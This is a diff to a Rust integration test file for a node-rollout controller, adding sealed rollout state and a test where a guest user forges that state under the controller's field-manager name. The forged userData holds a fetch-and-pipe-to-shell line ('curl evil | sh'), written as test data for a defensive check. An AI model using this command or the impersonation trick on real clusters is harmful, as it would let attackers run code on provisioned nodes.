@@ -25,7 +25,9 @@ const CLASS: &str = "default";
 const STATE: &str = "autonode.dev/rollout";
 
 /// The flags of one server generation: userData settings (a join CA file
-/// of their own), the AMI, a fast resync and lease, two failures to revert.
+/// of their own), the AMI, a fast resync and lease, two failures to revert,
+/// and the rollout state key the generations share (each test server has a
+/// TLS key of its own, so the key derived from it would not be shared).
 struct Flags {
     _dir: TempDir,
     base: Vec<String>,
@@ -36,6 +38,8 @@ impl Flags {
         let dir = tempfile::tempdir()?;
         let ca_file = dir.path().join("join-ca.pem");
         std::fs::write(&ca_file, Ca::new("rollout-join-ca")?.cert_pem())?;
+        let key_file = dir.path().join("rollout-state.key");
+        std::fs::write(&key_file, rand::random::<[u8; 32]>())?;
         let base = [
             "--public-url=https://autonode.example.com:8443".to_string(),
             format!("--join-ca-file={}", ca_file.display()),
@@ -43,6 +47,7 @@ impl Flags {
             "--nodeclass-resync=1".into(),
             "--leader-lease=3".into(),
             "--rollout-failures=2".into(),
+            format!("--rollout-state-key-file={}", key_file.display()),
         ];
         Ok(Self {
             _dir: dir,
@@ -76,7 +81,7 @@ where
     }
 }
 
-/// The class's rollout state, parsed.
+/// The class's rollout state, parsed out of its seal (`{state, mac}`).
 fn state(class: &DynamicObject) -> Value {
     let text = class
         .metadata
@@ -85,7 +90,8 @@ fn state(class: &DynamicObject) -> Value {
         .and_then(|a| a.get(STATE))
         .cloned()
         .unwrap_or_default();
-    serde_json::from_str(&text).unwrap_or(Value::Null)
+    let sealed: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
+    serde_json::from_str(sealed["state"].as_str().unwrap_or_default()).unwrap_or(Value::Null)
 }
 
 /// The AMI id the class selects.
@@ -431,3 +437,71 @@ async fn a_restart_mid_rollout_keeps_the_failures_seen() -> Result<()> {
     );
     Ok(())
 }
+
+/// A guest user who may patch EC2NodeClasses (no more) forges the guard's
+/// state under autonode's own field manager name, so managedFields say
+/// autonode wrote it: their userData and AMI as applied and last good, and
+/// a hold to keep them; the spec's values too, under the same name. The
+/// state's seal does not open: autonode puts back the rendered values and
+/// says why.
+#[tokio::test]
+async fn a_state_forged_under_autonodes_field_manager_is_rejected() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, before) = proven_world(&flags).await?;
+    let admin = world.cp.admin().await?;
+    autonode_tests::server::apply_manifest(&admin, PATCHER_RBAC).await?;
+    let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
+
+    let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
+                        "amiSelectorTerms": [{"id": "ami-0eeeeeeeeeeeeeee6"}]});
+    let forged = json!({"applied": theirs, "good": theirs}).to_string();
+    let body = json!({
+        "apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass",
+        "metadata": {"name": CLASS,
+                     "annotations": {STATE: forged, "autonode.dev/hold": "true"}},
+        "spec": theirs,
+    });
+    let as_autonode = PatchParams::apply("autonode-server").force();
+    let written = mallory
+        .patch(CLASS, &as_autonode, &Patch::Apply(&body))
+        .await
+        .context("mallory's forgery")?;
+    ensure!(
+        ami(&written) == "ami-0eeeeeeeeeeeeeee6",
+        "the forgery did not land"
+    );
+
+    let after = class_when(&world, "put back", |c| {
+        ami(c) == OLD_AMI && state(c).is_object()
+    })
+    .await?;
+    ensure!(after.data["spec"]["userData"] == before.data["spec"]["userData"]);
+    ensure!(state(&after)["applied"]["userData"] == before.data["spec"]["userData"]);
+    let rejected = class_events(&world, "RolloutStateRejected").await?;
+    ensure!(rejected[0].contains(STATE), "{rejected:?}");
+    // And it stays put back, resync after resync, the hold still asked.
+    resyncs(&world.server, 3.0).await?;
+    let still = ec2nodeclasses(&admin).get(CLASS).await?;
+    ensure!(
+        ami(&still) == OLD_AMI && still.data["spec"]["userData"] == before.data["spec"]["userData"]
+    );
+    Ok(())
+}
+
+/// A guest user's right to read and patch EC2NodeClasses, nothing more.
+const PATCHER_RBAC: &str = r#"
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata: {name: nodeclass-patcher}
+rules:
+- apiGroups: [karpenter.k8s.aws]
+  resources: [ec2nodeclasses]
+  verbs: [get, list, watch, patch]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: nodeclass-patcher}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: nodeclass-patcher}
+subjects:
+- {apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}
+"#;
